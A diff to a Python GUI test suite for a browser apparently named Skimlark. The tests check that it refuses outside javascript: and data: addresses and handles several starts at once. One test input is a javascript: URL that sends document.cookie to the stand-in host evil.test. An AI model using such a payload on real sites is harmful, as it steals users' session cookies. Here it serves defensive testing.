@@ -9,12 +9,7 @@ import pyatspi
 from skimlark_at import Session, check, find, message_box, press, text_of, wait_for
 
 START = "http://www.velmora.example/skimlark.htm"
-STEAL = "javascript:void(new Image().src='http://evil.test/log?c='+document.cookie)"
-
-
-def refused(scheme):
-    return ("Skimlark did not open the %s: address it was handed: from outside, it opens only web pages and files."
-            % scheme)
+REFUSED = "Skimlark did not open the %s: address it was handed: from outside, it opens only web pages and files."
 
 
 def location(session):
@@ -27,19 +22,18 @@ def scripts_never_reach_the_page_on_screen(binary):
     session.proxy.pages["http://after.test/"] = ("After", "after")
     session.start("http://bank.test/")
     try:
-        wait_for(lambda: session.panel(2) == "http://bank.test/" and session.panel(1) == "Got it", 60,
-                 "the bank (panel 2 %r)" % session.panel(2))
+        wait_for(lambda: session.panel(2) == "http://bank.test/", 60, "the bank (panel 2 %r)" % session.panel(2))
         # As a link in a mail would, through "skimlark %U".
-        for given, scheme in ((STEAL, "javascript"), ("data:text/html,<title>Bank</title>", "data")):
+        for given in ("javascript:void(new Image().src='http://evil.test/log?c='+document.cookie)",
+                      "data:text/html,<title>Bank</title>"):
             check(session.run_again(given) == 0, "the second start's exit status")
-            wait_for(lambda: session.panel(2) == refused(scheme), 30,
-                     "the refusal of %s: (panel 2 %r)" % (scheme, session.panel(2)))
+            scheme = given.split(":")[0]
+            wait_for(lambda: session.panel(2) == REFUSED % scheme, 30, "the refusal (panel 2 %r)" % session.panel(2))
             check(location(session) == "http://bank.test/", "the address shown: %r" % location(session))
-        # Anything the refused addresses did would have reached the proxy first.
+        # What the refused addresses did would have reached the proxy first.
         check(session.run_again("http://after.test/") == 0, "the third start's exit status")
         wait_for(lambda: session.window.name == "Skimlark - After", 30, "the page handed over last")
-        check(session.proxy.requests == ["http://bank.test/", "http://after.test/"],
-              "requests: %r" % session.proxy.requests)
+        check(session.proxy.requests == ["http://bank.test/", "http://after.test/"], "%r" % session.proxy.requests)
     finally:
         session.close()
 
@@ -48,10 +42,8 @@ def no_address_is_told_and_the_home_page_opens(binary):
     session = Session(binary).start("", "bank test")
     try:
         box = message_box(session, "Skimlark cannot open \u201cbank test\u201d: it is neither a web address nor a file.")
-        wait_for(lambda: session.panel(2) == START and session.panel(1) == "Got it", 60,
-                 "the start page (panel 2 %r)" % session.panel(2))
+        wait_for(lambda: session.panel(2) == START, 60, "the start page (panel 2 %r)" % session.panel(2))
         press(find(box, "push button", "OK"))
-        check(session.proxy.requests == [], "requests: %r" % session.proxy.requests)
     finally:
         session.close()
 
@@ -61,24 +53,18 @@ def ten_starts_at_once(binary):
     addresses = ["http://a%d.test/" % n for n in range(10)]
     # No page shows before every start has handed its address over.
     session.proxy.answering.clear()
-    env = session.environment()
     pyatspi.Registry.getDesktop(0).childCount
-    starts = [subprocess.Popen([binary, address], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-              for address in addresses]
+    starts = [subprocess.Popen([binary, address], env=session.environment(), stdout=subprocess.DEVNULL,
+                               stderr=subprocess.DEVNULL) for address in addresses]
     try:
-        wait_for(lambda: sum(start.poll() is not None for start in starts) == 9, 120,
-                 "nine starts to hand their address over and end")
-        check(all(start.returncode == 0 for start in starts if start.poll() is not None), "exit statuses")
+        wait_for(lambda: [start.poll() for start in starts].count(0) == 9, 120, "nine starts to hand over and end")
         session.process = next(start for start in starts if start.poll() is None)
         session.app = wait_for(session._find_app, 60, "the program on the accessibility bus")
-        session.window = wait_for(lambda: find(session.app, "frame", "Skimlark", prefix=True, showing=True), 60,
-                                  "the main window")
         wait_for(lambda: session.proxy.requests, 60, "a page asked for")
         session.proxy.answering.set()
         wait_for(lambda: session.panel(1) == "Got it", 60, "the page to load")
         last = session.proxy.requests[-1]
-        check(last in addresses and location(session) == last,
-              "the address shown %r, the last asked for %r" % (location(session), last))
+        check(last in addresses and location(session) == last, "shown %r, last asked %r" % (location(session), last))
         check(session.panel(2) == "9 other addresses handed to Skimlark were not opened: it shows one page at a "
                                   "time, the last one asked for.", "panel 2: %r" % session.panel(2))
     finally:
